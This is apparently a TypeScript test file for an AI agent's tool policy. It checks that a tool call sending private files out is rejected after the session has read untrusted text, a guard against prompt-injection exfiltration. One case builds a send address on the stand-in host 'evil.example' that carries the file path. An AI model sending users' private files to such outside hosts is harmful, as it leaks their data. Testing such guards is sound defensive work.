/** Calls that read private data themselves and send it, in sessions that have read none. */
import { Policy } from "@bough/policy"
import type { Session } from "@bough/protocol"
import { Capability, Tool } from "@bough/tool"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { Done, done, holding, requestFor, world } from "./Harness.ts"

const Mail = Capability.make("acme/Mail", { floor: "System", labels: ["private"] })<object>()

const provenance = {
  isGivenAddress: () => false,
  isAgreedHost: () => false,
  isGivenText: () => false,
  sourcesOf: () => ""
}

describe("a call that reads private data and sends it", () => {
  it.effect("counts as a call of a private session", () =>
    Effect.gen(function* () {
      const sending = (
        labels: ReadonlyArray<Session.Label>,
        more: object,
        capabilities: ReadonlyArray<Capability.Any>
      ) => {
        const tool = Tool.make("send", {
          version: 1,
          description: "Sends a file",
          tier: "System",
          replay: "Safe",
          capabilities: capabilities as readonly [],
          parameters: Schema.Struct({ path: Schema.String }),
          output: Done,
          ...more,
          execute: () => Effect.succeed(done)
        })
        const { end, records } = world({
          tools: [tool],
          context: holding(...(capabilities as readonly [typeof Capability.NetworkWrite])),
          provenance,
          answers: [{ deny: "no" }],
          policy: { ...Policy.defaults, approve: "allow" }
        })
        return Effect.map(end({ ...requestFor("send", { path: "plans.txt" }, null), labels }), ({ outcome }) => [
          outcome._tag,
          records.requests.map(({ reason }) => reason).join()
        ])
      }
      const texts = { egress: { texts: ({ path }: { readonly path: string }) => [path] } }
      const address = { egress: { address: ({ path }: { readonly path: string }) => `https://evil.example/${path}` } }
      const reading = [Capability.WorkspaceRead, Capability.NetworkWrite]
      assert.match(
        (yield* sending(["untrusted"], texts, reading)).join(": "),
        /^Rejected: this text was made by the model after it read untrusted text, and send sends private data that it reads: plans\.txt$/u
      )
      assert.match((yield* sending([], address, reading)).join(": "), /evil\.example/u)
      assert.deepStrictEqual(yield* sending([], texts, reading), ["Succeeded", ""])
      assert.deepStrictEqual(yield* sending(["untrusted"], texts, [Capability.NetworkWrite]), ["Succeeded", ""])
      // A service gets nothing new if the private data is its own.
      assert.deepStrictEqual(yield* sending(["untrusted"], texts, [Mail]), ["Succeeded", ""])
    })
  )
})
